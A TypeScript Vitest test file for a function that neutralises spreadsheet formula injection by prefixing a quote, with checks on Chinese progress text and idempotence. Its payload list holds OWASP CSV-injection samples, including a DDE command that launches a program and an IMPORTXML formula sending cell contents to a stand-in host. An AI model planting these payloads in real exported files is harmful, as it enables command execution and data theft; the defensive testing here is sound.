import { describe, expect, it } from 'vitest';
import { isFormulaLike, neutraliseFormula } from '../../core/index.ts';

// OWASP CSV-injection payloads plus the tab/CR variants.
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://x","y")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://x/?v=", CONCATENATE(A2:E2)), "//a")',
];

describe('neutraliseFormula', () => {
  it.each(PAYLOADS)('turns %j into text that starts with a quote', (payload) => {
    const safe = neutraliseFormula(payload);
    expect(safe).toBe(`'${payload}`);
    expect(isFormulaLike(safe)).toBe(false);
  });

  it('leaves ordinary Chinese progress text unchanged', () => {
    const text = '已入户走访 132 户，完成率 85%';
    expect(neutraliseFormula(text)).toBe(text);
  });

  it('leaves text with an equals sign in the middle unchanged', () => {
    expect(neutraliseFormula('目标=100户')).toBe('目标=100户');
  });

  it('is idempotent: neutralising twice adds only one quote', () => {
    for (const p of PAYLOADS) expect(neutraliseFormula(neutraliseFormula(p))).toBe(neutraliseFormula(p));
  });
});
